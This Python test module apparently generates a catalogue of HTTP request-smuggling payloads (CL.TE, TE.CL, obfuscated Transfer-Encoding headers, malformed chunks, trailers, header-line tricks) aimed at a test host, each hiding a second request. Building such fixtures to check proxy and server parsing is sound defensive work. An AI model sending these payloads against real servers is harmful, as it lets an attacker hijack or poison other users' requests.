"""Requests that two readers may frame differently, each with a request of the attacker's own hidden in it.

A row is (name, bytes). What is hidden comes in two forms: a whole request, whose answer the next client would get, and the
beginning of one, which swallows the next client's request and answers it with the attacker's target.
"""

from __future__ import annotations

from collections.abc import Iterator

from wire import request

HIDDEN_BODY = b'{"timing": {"period": 0.7}}'  # no victim asks for this
WHOLE = request("POST", "/v1/schedules", HIDDEN_BODY)
BEGINNING = b"GET /v1/limits HTTP/1.1\r\nHost: tuftwave.test\r\nX-Swallow: "
JSON = "Content-Type: application/json"
BEYOND_BUFFER = 300_000  # bytes, more than the proxy holds back


def head(first: str, *lines: str) -> bytes:
    return "\r\n".join([first, "Host: tuftwave.test", *lines]).encode("latin-1") + b"\r\n\r\n"


def chunk(data: bytes, size: str = "", extension: str = "") -> bytes:
    return (size or f"{len(data):x}").encode() + extension.encode("latin-1") + b"\r\n" + data + b"\r\n"


def hiding(hidden: bytes) -> Iterator[tuple[str, bytes]]:
    post, size, end = "POST /v1/schedules HTTP/1.1", f"Content-Length: {len(hidden)}", b"0\r\n\r\n"
    chunked = "Transfer-Encoding: chunked"
    yield from early(hidden, size)
    # Two lengths.
    yield "CL.TE", head(post, JSON, f"Content-Length: {len(end + hidden)}", chunked) + end + hidden
    yield "TE first, CL", head(post, JSON, chunked, f"Content-Length: {len(end + hidden)}") + end + hidden
    yield "TE.CL", head(post, JSON, "Content-Length: 4", chunked) + chunk(hidden) + end
    yield "CL twice, the first short", head(post, JSON, "Content-Length: 2", size) + hidden
    yield "CL twice, the last short", head(post, JSON, size, "Content-Length: 2") + hidden
    yield "CL twice alike", head(post, JSON, size, size) + hidden
    for value in ("+{}", "{},{}", "0x{:x}", "{}\x0b", "0{}", "-{}", "{}.0", "1 {}"):
        yield f"CL {value!r}", head(post, JSON, "Content-Length: " + value.format(len(hidden), len(hidden))) + hidden
    # A transfer coding that only one of the two may see.
    for line in ("Transfer-Encoding : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity",
                 "Transfer-Encoding: identity, chunked", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding:\tchunked",
                 "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: %63hunked", "Transfer-Encoding:\r\n chunked",
                 "X: y\r\n Transfer-Encoding: chunked", "Transfer-Encoding: CHUNKED", "Transfer_Encoding: chunked",
                 "X: y\rTransfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\x00"):
        yield f"CL and {line!r}", head(post, JSON, f"Content-Length: {len(end + hidden)}", line) + end + hidden
        yield f"only {line!r}", head(post, JSON, line) + end + hidden
    yield "TE twice", head(post, JSON, chunked, "Transfer-Encoding: identity") + end + hidden
    yield "TE in HTTP/1.0", head("POST /v1/schedules HTTP/1.0", JSON, "Connection: keep-alive", chunked) + end + hidden
    # Chunks.
    for given in ("0x{:x}", "+{:x}", " {:x}", "{:x} ", "-1", "fffffffffffffff{:x}", "{:x}\n", "{:x}g", "0{:x}"):
        yield f"chunk size {given!r}", head(post, JSON, chunked) + chunk(hidden, given.format(len(hidden))) + end
    for extension in (";a=b", ";\n", ";a=\"\r\n", ";" + "a" * 4000, ";\x00", ";\r", "\n;"):
        yield f"chunk extension {extension[:8]!r}", head(post, JSON, chunked) + chunk(hidden, extension=extension) + end
        last = b"0" + extension.encode("latin-1") + b"\r\n\r\n"
        yield f"last chunk's {extension[:8]!r}", head(post, JSON, chunked) + chunk(HIDDEN_BODY) + last + hidden
    yield "trailers", head(post, JSON, chunked, "Trailer: Content-Length") + chunk(HIDDEN_BODY) + b"0\r\nContent-Length: 9\r\n\r\n" + hidden
    yield "trailer with a bare LF", head(post, JSON, chunked) + chunk(HIDDEN_BODY) + b"0\r\nX: y\n\r\n" + hidden
    # A length that is taken away on the way.
    for name in ("Content-Length", "Transfer-Encoding", "Host", "keep-alive, Content-Length", "close, Content-Length"):
        yield f"Connection: {name}", head(post, JSON, f"Connection: {name}", size) + hidden
    # Lines.
    yield "obs-fold after the length", head(post, JSON, size + "\r\n ") + hidden
    yield "bare LF", head(post, JSON, size).replace(b"\r\n", b"\n") + hidden
    yield "NUL in a value", head(post, JSON, "X: \x00", size) + hidden
    yield "length behind a bare CR", head(post, JSON, f"X: y\r{size}") + hidden
    yield "underscore", head(post, JSON, f"Content_Length: {len(hidden)}", "Content-Length: 0") + hidden
    yield "two Hosts", head(post, JSON, "Host: other.test", size) + hidden
    yield "absolute target", head("POST http://other.test/v1/schedules HTTP/1.1", JSON, size) + hidden
    escaped = hidden.decode().replace("\r\n", "%0d%0a").replace(" ", "%20")
    yield "in the target", head(f"GET /%20HTTP/1.1%0d%0aHost:%20a%0d%0a%0d%0a{escaped} HTTP/1.1")
    yield "pipelined", request("GET", "/v1/version") + hidden


def early(hidden: bytes, size: str) -> Iterator[tuple[str, bytes]]:
    """Refused or answered on the head alone: is the body still read, or is it the next request?"""
    for method, target in (("GET", "/v1/version"), ("HEAD", "/v1/version"), ("OPTIONS", "/v1/schedules"), ("PUT", "/v1/schedules"),
                           ("DELETE", "/v1/schedules"), ("post", "/v1/schedules"), ("POST", "/v1/nowhere"), ("POST", "/v1/version"),
                           ("GET", "/v1/tufts"), ("TRACE", "/"), ("QUERY", "/v1/schedules")):
        yield f"{method} {target} with a body", head(f"{method} {target} HTTP/1.1", size) + hidden
        yield f"{method} {target} in chunks", head(f"{method} {target} HTTP/1.1", "Transfer-Encoding: chunked") + chunk(hidden) + b"0\r\n\r\n"
    post = "POST /v1/schedules HTTP/1.1"
    yield "413", head(post, JSON, "Content-Length: 100000000") + hidden * (BEYOND_BUFFER // len(hidden))
    yield "413 of 20 digits", head(post, JSON, "Content-Length: 1" + "0" * 19 + str(len(hidden))) + hidden
    yield "401", head(post, JSON, "Authorization: Bearer wrong", size) + hidden
    yield "415", head(post, JSON, "Content-Encoding: gzip", size) + hidden
    yield "417", head(post, JSON, "Expect: 200-ok", size) + hidden
    yield "100", head(post, JSON, "Expect: 100-continue", size) + hidden
    yield "100 where nothing is", head("POST /v1/nowhere HTTP/1.1", "Expect: 100-continue", size) + hidden
    yield "100 on GET", head("GET /v1/version HTTP/1.1", "Expect: 100-continue", size) + hidden
    yield "406", head(post, JSON, "Accept: image/png", size) + hidden
    yield "upgrade", head("GET /v1/version HTTP/1.1", "Connection: Upgrade", "Upgrade: websocket", size) + hidden
    yield "h2c", head(post, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk", size) + hidden
    yield "HTTP/1.0 kept", head("POST /v1/nowhere HTTP/1.0", "Connection: keep-alive", size) + hidden
    yield "POST without a length", head(post, JSON) + hidden
    yield "a body that ends too soon", head(post, JSON, f"Content-Length: {2 * len(hidden)}") + hidden


def attacks() -> list[tuple[str, bytes]]:
    return [(f"{name}, {form}", data) for form, hidden in (("whole", WHOLE), ("beginning", BEGINNING)) for name, data in hiding(hidden)]
